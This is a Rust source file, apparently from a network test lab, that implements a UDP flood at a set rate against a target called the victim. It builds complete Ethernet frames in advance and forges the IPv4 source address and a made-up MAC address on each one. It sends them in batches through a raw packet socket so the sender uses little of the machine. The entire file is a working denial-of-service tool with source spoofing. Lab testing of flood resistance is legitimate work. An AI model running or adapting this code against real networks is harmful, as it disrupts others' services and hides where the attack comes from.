//! A flood of UDP datagrams from addresses that nobody has, at a set rate: whole frames through a packet socket, made
//! beforehand, so that the sender takes as little of the machine as it can.

use std::io::{self, IoSlice};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::num::NonZeroU64;
use std::os::fd::AsRawFd;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use nix::sys::socket::{LinkAddr, bind};
use rustix::net::{MMsgHdr, SendAncillaryBuffer, SendFlags, sendmmsg};
use rustix::thread::set_current_timer_slack;
use socket2::{Domain, Socket, Type};

use crate::error::LabError;
use crate::namespace::Namespace;

/// Frames in one call at most.
const BATCH: usize = 64;
/// Pause after a call. Short: between bursts the victim would have time for others.
const PAUSE: Duration = Duration::from_micros(50);
/// What the kernel may add to a pause, in nanoseconds.
const SLACK: u64 = 1;
/// A sender that was held up catches up on no more than this part of a second, so that it makes no burst that was not
/// asked for.
const CATCH_UP: u32 = 50;

/// Where a flood goes, and through what.
#[derive(Clone, Debug)]
pub struct Flood {
    /// The interface towards the victim.
    pub interface: String,
    /// The victim's hardware address there.
    pub hardware: [u8; 6],
    /// The victim.
    pub to: SocketAddrV4,
    /// The first two octets of the addresses that it seems to come from.
    pub from: [u8; 2],
    /// The datagrams, which are sent in turn, each from another address.
    pub datagrams: Vec<Vec<u8>>,
    /// How many a second.
    pub rate: u32,
}

impl Flood {
    /// Sends until `end` is set, and counts what was sent.
    ///
    /// # Errors
    /// When there is no such interface, or it does not take frames.
    pub fn run(
        &self,
        namespace: &Namespace,
        end: &AtomicBool,
        sent: &AtomicU64,
    ) -> Result<(), LabError> {
        let failed = || LabError::io(format!("flooding {}", self.to));
        let socket = namespace.run(|| self.open())?.map_err(failed())?;
        let frames: Vec<Vec<u8>> = (0..)
            .zip(&self.datagrams)
            .map(|(number, datagram)| self.frame(number, datagram))
            .collect();
        let slices: Vec<[IoSlice<'_>; 1]> =
            frames.iter().map(|frame| [IoSlice::new(frame)]).collect();
        set_current_timer_slack(NonZeroU64::new(SLACK)).map_err(|error| failed()(error.into()))?;
        let (started, mut done) = (Instant::now(), 0_u64);
        let mut next = slices.iter().cycle();
        while !end.load(Ordering::Relaxed) {
            let due = (started.elapsed().as_secs_f64() * f64::from(self.rate)) as u64;
            done = done.max(due.saturating_sub(u64::from(self.rate / CATCH_UP)));
            let count = usize::try_from(due - done).unwrap_or(BATCH).min(BATCH);
            if count < BATCH {
                thread::sleep(PAUSE);
            }
            let mut none: [_; BATCH] = std::array::from_fn(|_| SendAncillaryBuffer::default());
            let batch = next.by_ref().zip(&mut none).take(count);
            let mut headers: Vec<_> =
                batch.map(|(frame, none)| MMsgHdr::new(frame, none)).collect();
            let taken = match sendmmsg(&socket, &mut headers, SendFlags::empty()) {
                Ok(taken) => taken,
                // The device's queue is full.
                Err(rustix::io::Errno::NOBUFS | rustix::io::Errno::AGAIN) => 0,
                Err(error) => return Err(failed()(error.into())),
            };
            sent.fetch_add(taken as u64, Ordering::Relaxed);
            done += count as u64;
        }
        Ok(())
    }

    fn open(&self) -> io::Result<Socket> {
        // Protocol 0: it receives nothing.
        let socket = Socket::new(Domain::PACKET, Type::RAW, None)?;
        let address = nix::ifaddrs::getifaddrs()?
            .filter(|found| found.interface_name == self.interface)
            .find_map(|found| found.address?.as_link_addr().copied())
            .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, "no such interface"))?;
        bind(socket.as_raw_fd(), &address as &LinkAddr)?;
        Ok(socket)
    }

    /// A whole Ethernet frame. Without a checksum of UDP, which IPv4 allows (RFC 768).
    fn frame(&self, number: u32, datagram: &[u8]) -> Vec<u8> {
        let [_, _, high, low] = number.to_be_bytes();
        let [a, b] = self.from;
        let source = Ipv4Addr::new(a, b, high, low);
        let port = 1024 + u16::from_be_bytes([high, low]) % 60_000;
        let length = |headers: usize| u16::try_from(datagram.len() + headers).unwrap_or(u16::MAX);
        let mut ip = [0; 20];
        (ip[0], ip[8], ip[9]) = (0x45, 64, 17);
        ip[2..4].copy_from_slice(&length(28).to_be_bytes());
        ip[12..16].copy_from_slice(&source.octets());
        ip[16..20].copy_from_slice(&self.to.ip().octets());
        let sum: u32 = ip.chunks(2).map(|two| u32::from(two[0]) << 8 | u32::from(two[1])).sum();
        let folded = (sum & 0xffff) + (sum >> 16);
        let folded = (folded & 0xffff) + (folded >> 16);
        ip[10..12].copy_from_slice(&(!folded).to_be_bytes()[2..]);
        let mut frame = Vec::with_capacity(42 + datagram.len());
        frame.extend_from_slice(&self.hardware);
        // Locally administered, and nobody's.
        frame.extend_from_slice(&[2, 0, 0, 0, 0, 9, 8, 0]);
        frame.extend_from_slice(&ip);
        for field in [port, self.to.port(), length(8), 0] {
            frame.extend_from_slice(&field.to_be_bytes());
        }
        frame.extend_from_slice(datagram);
        frame
    }
}
